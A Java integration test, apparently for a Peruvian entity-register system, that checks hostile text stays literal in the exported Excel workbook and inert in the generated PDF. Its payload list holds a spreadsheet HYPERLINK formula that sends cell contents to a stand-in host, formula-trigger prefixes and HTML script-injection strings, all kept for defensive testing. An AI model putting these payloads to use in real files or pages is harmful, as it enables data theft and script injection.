package pe.integrity.register.entity;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import javax.xml.parsers.DocumentBuilderFactory;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;
import org.w3c.dom.Document;
import pe.integrity.register.RegisterFiles;
import pe.integrity.register.RegisterJourney;
import pe.integrity.register.archive.RegisterArchive;
import pe.integrity.register.archive.RegisterKind;
import pe.integrity.register.archive.Stamp;
import pe.integrity.register.archive.StoredRegister;
import pe.integrity.support.IntegrationTest;

/**
 * Hostile text in every text field: it stays literal text in the workbook (a string cell, never a formula,
 * quote-prefixed when it starts like one) and inert text in the PDF (escaped by the template engine, never
 * markup). Once through the use cases into the database, once into every field of the register's data.
 */
@IntegrationTest
public class RegisterInjectionTest {

    static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://example.invalid/robar?d=\"&A1,\"Ver detalle\")", "+1", "-1", "@SUM(A1)", "\tX", "\rX",
            "<script>alert(1)</script>", "</td></tr></table>");

    @Autowired ApplicationContext ctx;
    @Autowired EntityRegisters registers;
    @Autowired RegisterAssembler assembler;
    @Autowired PdfRegisterWriter pdf;
    @Autowired ExcelRegisterWriter excel;
    @Autowired RegisterArchive archive;

    @Test
    void hostileTextEnteredThroughTheUseCasesStaysLiteral() throws Exception {
        AtomicInteger n = new AtomicInteger();
        RegisterJourney j = RegisterJourney.open(ctx, RegisterJourney.FIVE,
                t -> HOSTILE.get(n.getAndIncrement() % HOSTILE.size()) + t).planned();
        StoredRegister xlsx = registers.draft(j.team.conductor(), j.assessmentId, RegisterKind.ENTITY_XLSX);
        StoredRegister pdfDoc = registers.draft(j.team.conductor(), j.assessmentId, RegisterKind.ENTITY_PDF);

        List<String> cells = checkWorkbook(RegisterFiles.bytes(archive, xlsx));
        assertThat(cells).as("risk statements as entered").containsAll(
                j.risks().stream().map(pe.integrity.assessment.Risk::getStatement).toList());
        assertThat(cells).anyMatch(c -> c.startsWith("=HYPERLINK(")).anyMatch(c -> c.startsWith("@SUM(A1)"))
                .anyMatch(c -> c.startsWith("<script>"));
        String text = RegisterFiles.squash(RegisterFiles.pdfText(RegisterFiles.bytes(archive, pdfDoc)));
        assertThat(text).contains("<script>alert(1)</script>", "</td></tr></table>", "=HYPERLINK(", "@SUM(A1)")
                .contains(RegisterFiles.squash("6. Historial de revisión"));
    }

    @Test
    void hostileTextInEveryFieldOfTheRegisterStaysLiteral() throws Exception {
        RegisterJourney j = RegisterJourney.open(ctx, RegisterJourney.FIVE, t -> t).planned();
        RegisterData clean = assembler.assemble(j.team.conductor(), j.assessmentId);
        AtomicInteger n = new AtomicInteger();
        List<String> planted = new ArrayList<>();
        RegisterData hostile = (RegisterData) RegisterFiles.mapStrings(clean, s -> {
            String h = HOSTILE.get(n.getAndIncrement() % HOSTILE.size()) + s;
            planted.add(h);
            return h;
        });
        Stamp stamp = new Stamp("CODE", "CODE", "http://localhost/verificar?codigo=CODE", true, "01/01/2026 10:00", "\tQuien");

        ByteArrayOutputStream book = new ByteArrayOutputStream();
        excel.write(hostile, stamp, book);
        List<String> cells = checkWorkbook(book.toByteArray());
        // every table value is one cell, exactly as it was (tabs and carriage returns included)
        List<String> tableValues = planted.stream().filter(cells::contains).toList();
        assertThat(tableValues).hasSizeGreaterThan(planted.size() / 2);
        assertThat(cells).anyMatch(c -> c.startsWith("\tX")).anyMatch(c -> c.startsWith("\rX"));

        String xhtml = pdf.xhtml(hostile, stamp);
        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
        factory.setNamespaceAware(true);
        Document dom = factory.newDocumentBuilder().parse(new ByteArrayInputStream(xhtml.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
        assertThat(dom.getElementsByTagNameNS("*", "script").getLength()).isZero();
        String domText = dom.getDocumentElement().getTextContent();
        assertThat(domText).contains("<script>alert(1)</script>", "</td></tr></table>");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        pdf.write(hostile, stamp, out);
        String text = RegisterFiles.squash(RegisterFiles.pdfText(out.toByteArray()));
        assertThat(text).contains("<script>alert(1)</script>", "</td></tr></table>", "=HYPERLINK(", "@SUM(A1)")
                .contains(RegisterFiles.squash("6. Historial de revisión"), RegisterFiles.squash("Observaciones de la SIP"));
    }

    /** No formula anywhere; every string that starts like one carries the quote prefix. Returns all strings. */
    private static List<String> checkWorkbook(byte[] bytes) throws Exception {
        List<String> strings = new ArrayList<>();
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(bytes))) {
            for (Sheet sheet : wb) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).as("%s!%s", sheet.getSheetName(), cell.getAddress())
                                .isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING) {
                            String v = cell.getStringCellValue();
                            strings.add(v);
                            if (SafeCells.risky(v)) {
                                assertThat(cell.getCellStyle().getQuotePrefixed())
                                        .as("quote prefix on %s!%s %s", sheet.getSheetName(), cell.getAddress(), v).isTrue();
                            }
                        }
                    }
                }
            }
        }
        return strings;
    }
}
